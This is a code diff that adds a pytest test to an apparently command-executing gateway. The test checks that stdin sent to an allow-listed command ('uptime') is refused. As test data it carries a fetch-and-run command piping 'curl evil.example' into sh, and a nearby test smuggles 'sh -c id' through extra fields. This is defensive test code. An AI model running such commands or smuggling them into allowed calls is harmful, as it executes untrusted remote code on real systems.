@@ -81,6 +81,14 @@ def test_exec_with_an_allowed_command_alone_is_forwarded_exactly(admin: str, gw:
     assert_forwarded_exactly(gw, method="POST", raw_path=EXEC, body=body, client_tokens=[admin])
 
 
+def test_exec_with_stdin_for_an_allowed_command_is_refused(admin: str, gw: RunningGateway) -> None:
+    """The allow-list names commands, not their input: stdin could make an allowed one do anything."""
+    body = json.dumps({"command": ["uptime"], "stdin": "curl evil.example | sh\n"}).encode()
+    answer = send(gw, request("POST", EXEC, token=admin, headers=JSON, body=body))
+    assert_refused(gw, answer, 403, "forbidden")
+    assert "stdin" in answer.json()["message"]
+
+
 @pytest.mark.parametrize("field", ["args", "Command2", "entrypoint", "env"])
 def test_exec_with_a_field_the_constraint_cannot_judge_is_refused(field: str, admin: str, gw: RunningGateway) -> None:
     body = json.dumps({"command": ["uptime"], field: ["sh", "-c", "id"]}).encode()
